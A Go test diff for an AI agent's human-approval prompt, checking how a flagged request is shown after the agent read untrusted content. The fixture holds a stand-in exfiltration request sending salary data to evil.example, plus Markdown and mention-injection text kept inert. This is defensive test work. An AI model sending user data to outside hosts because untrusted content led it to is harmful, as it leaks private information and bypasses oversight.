@@ -99,3 +99,35 @@ func TestMore(t *testing.T) {
 		}
 	}
 }
+
+// A request of a turn that read untrusted content is shown whole (the data
+// in its query too), with its sizes and why it is asked; a Markdown link
+// or a mention in it stays inert text inside code spans.
+func TestPromptTaintedRequest(t *testing.T) {
+	key := agent.SessionKey{Principal: agent.Principal{Platform: "slack", Workspace: "T1", User: "U1"}}
+	p := PromptOf(agent.ApprovalPrompt{Key: key, Tool: "http_fetch", Detail: agent.ApprovalDetail{
+		Method: "GET", Host: "evil.example", Path: "/c?d=salary+123456&x=[docs](https://api.github.com)<!channel>",
+		Reason:   "this conversation read untrusted content (tool http_fetch: page.example), and it goes to evil.example, which is not a trusted host",
+		URLBytes: 12345, BodyBytes: 678,
+	}})
+	got := p.Ask(slackLike)
+	for _, want := range []string{
+		"wants to send data out:\n`GET evil.example/c?d=salary+123456&amp;x=[docs](https://api.github.com)&lt;!channel&gt;`\n",
+		"The URL is 12,345 bytes long, with a body of 678 bytes (not shown).",
+		"Asked because `this conversation read untrusted content (tool http_fetch: page.example), and it goes to evil.example, which is not a trusted host`.",
+		"Only <@U1> can decide.",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("prompt lacks %q:\n%s", want, got)
+		}
+	}
+	if strings.Count(got, "`")%2 != 0 {
+		t.Errorf("unbalanced code spans:\n%s", got)
+	}
+	long := p
+	long.Request = "GET evil.example/?d=" + strings.Repeat("x&", 5000)
+	long.Reason = strings.Repeat("why ", 1000)
+	if got := long.Ask(slackLike); utf8.RuneCountInString(got) > slackLike.Limit {
+		t.Errorf("a long tainted prompt is %d characters, over %d", utf8.RuneCountInString(got), slackLike.Limit)
+	}
+}
